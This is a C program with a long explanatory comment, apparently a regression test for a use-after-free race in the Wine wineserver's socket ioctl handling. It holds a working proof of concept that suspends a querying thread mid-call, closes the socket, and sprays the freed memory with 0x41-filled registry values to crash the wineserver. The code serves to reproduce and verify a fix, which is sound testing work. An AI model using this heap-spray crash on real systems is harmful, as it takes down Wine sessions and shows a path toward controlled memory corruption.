/*
 * asyncclose: crash the wineserver by closing a socket between an ioctl's
 * direct result and the wait on it (a bug of stock Wine 8.0 and 10.0)
 *
 * Copyright 2026 The wine-wfp authors
 *
 * This library is free software; you can redistribute it and/or
 * modify it under the terms of the GNU Lesser General Public
 * License as published by the Free Software Foundation; either
 * version 2.1 of the License, or (at your option) any later version.
 *
 * This library is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU
 * Lesser General Public License for more details.
 *
 * You should have received a copy of the GNU Lesser General Public
 * License along with this library; if not, write to the Free Software
 * Foundation, Inc., 51 Franklin St, Fifth Floor, Boston, MA 02110-1301, USA
 */

/*
 * The race.  A socket ioctl that the wineserver answers at once, such as
 * the one behind getsockname(), is made through an async object that holds
 * the socket's fd.  The request returns the result in its reply together
 * with a wait handle for the async; ntdll (server_ioctl_file()) then waits
 * on that handle, and the wait completes the async: async_satisfied() ->
 * async_set_result() -> set_fd_signaled(async->fd) -> wake_up(fd->user).
 * The async holds the fd, but not the fd's user, the socket object.  If
 * another thread closes the socket's last handle between the reply and the
 * wait, the socket is freed while its fd lives on in the async, and the
 * wait wakes up the waiters of freed memory.  Freed memory still looks like
 * an empty wait queue unless something reuses it, which is why wsfuzz hit
 * this only rarely, under load.
 *
 * This program makes the window as wide as it wants with documented calls
 * only.  A thread calls getsockname() in a loop.  The main thread suspends
 * it at a random moment; a suspended thread's wait is not satisfied (the
 * server's check_wait()), and the suspend signal is held back while the
 * thread is inside a server call, so whenever the getsockname() request
 * was sent before the suspension and its wait was not yet satisfied, the
 * thread stops inside the window.  The main thread then closes the socket,
 * makes the wineserver reuse the freed memory (registry values as large
 * as a socket object, whose data is 0x41 bytes, so the freed socket's wait
 * queue points to 0x4141414141414141), and resumes the thread.  A round
 * where the thread stopped outside the window does nothing: its next
 * getsockname() fails on the closed handle, and the next round begins.
 *
 * On stock Wine 8.0 the wineserver dies with SIGSEGV in wake_up() called
 * from async_set_result() in the first or second round (20 runs of 20),
 * and the programs of the prefix lose their server (this one then hangs,
 * and has to be killed).  With the fix
 * ("server: Keep an async's fd user alive until its direct result is
 * set.") it prints, after ROUNDS rounds, that the wineserver survived, and
 * exits with 0; about nine rounds in ten then close the socket inside the
 * window.
 *
 * SOCK_SIZE is sizeof(struct sock) in the wineserver (464 in Wine 8.0 on
 * x86_64, 496 in 10.0): the spray uses that size and the two next to it.
 *
 *   x86_64-w64-mingw32-gcc -O2 -o asyncclose.exe asyncclose.c -lws2_32
 *   WINEPREFIX=$(mktemp -d) wine64 asyncclose.exe [ROUNDS [SOCK_SIZE]]
 */

#include <winsock2.h>
#include <ws2tcpip.h>
#include <windows.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static SOCKET volatile current_socket = INVALID_SOCKET;
static LONG volatile calls, stop;

static DWORD WINAPI query_thread( void *arg )
{
    struct sockaddr_in addr;
    int len;

    (void)arg;
    while (!stop)
    {
        len = sizeof(addr);
        getsockname( current_socket, (struct sockaddr *)&addr, &len );
        InterlockedIncrement( &calls );
    }
    return 0;
}

static SOCKET bound_socket(void)
{
    struct sockaddr_in addr;
    SOCKET s;

    if ((s = socket( AF_INET, SOCK_STREAM, IPPROTO_TCP )) == INVALID_SOCKET)
    {
        printf( "socket: %d\n", WSAGetLastError() );
        exit( 2 );
    }
    memset( &addr, 0, sizeof(addr) );
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl( INADDR_LOOPBACK );
    if (bind( s, (struct sockaddr *)&addr, sizeof(addr) ))
    {
        printf( "bind: %d\n", WSAGetLastError() );
        exit( 2 );
    }
    return s;
}

/* wait until the query thread has made COUNT more calls */
static void wait_calls( LONG count )
{
    LONG start = calls;
    while (calls - start < count) SwitchToThread();
}

int main( int argc, char **argv )
{
    unsigned int rounds = argc > 1 ? strtoul( argv[1], NULL, 0 ) : 2000;
    unsigned int sock_size = argc > 2 ? strtoul( argv[2], NULL, 0 ) : 464;
    unsigned int round, i, spin;
    unsigned char *spray;
    WSADATA data;
    HANDLE thread;
    HKEY key;
    LONG ret;

    setvbuf( stdout, NULL, _IONBF, 0 );
    if (WSAStartup( MAKEWORD(2, 2), &data ))
    {
        printf( "WSAStartup failed\n" );
        return 2;
    }
    ret = RegCreateKeyExA( HKEY_CURRENT_USER, "Software\\asyncclose", 0, NULL,
                           REG_OPTION_VOLATILE, KEY_ALL_ACCESS, NULL, &key, NULL );
    if (ret)
    {
        printf( "RegCreateKeyEx: %ld\n", ret );
        return 2;
    }
    spray = malloc( sock_size + 16 );
    memset( spray, 0x41, sock_size + 16 );

    current_socket = bound_socket();
    thread = CreateThread( NULL, 0, query_thread, NULL, 0, NULL );
    srand( GetCurrentProcessId() );

    for (round = 0; round < rounds; round++)
    {
        SOCKET s = current_socket;

        /* let the thread run getsockname() on this socket for a while */
        wait_calls( 1 + rand() % 4 );
        for (spin = rand() % 2000; spin; spin--) YieldProcessor();

        SuspendThread( thread );
        closesocket( s );

        /* reuse the freed socket object: data of about its size, new values
         * every round so that no chunk is given back */
        for (i = 0; i < 24; i++)
        {
            char name[32];
            DWORD size = sock_size + 8 * ((int)(i % 3) - 1);

            sprintf( name, "r%u-%u", round, i );
            memcpy( spray + size - sizeof(round), &round, sizeof(round) );
            RegSetValueExA( key, name, 0, REG_BINARY, spray, size );
        }

        current_socket = bound_socket();
        printf( "round %u\n", round + 1 );
        ResumeThread( thread );
    }

    stop = 1;
    WaitForSingleObject( thread, INFINITE );
    RegCloseKey( key );
    RegDeleteKeyA( HKEY_CURRENT_USER, "Software\\asyncclose" );
    printf( "asyncclose: the wineserver survived %u rounds\n", rounds );
    return 0;
}
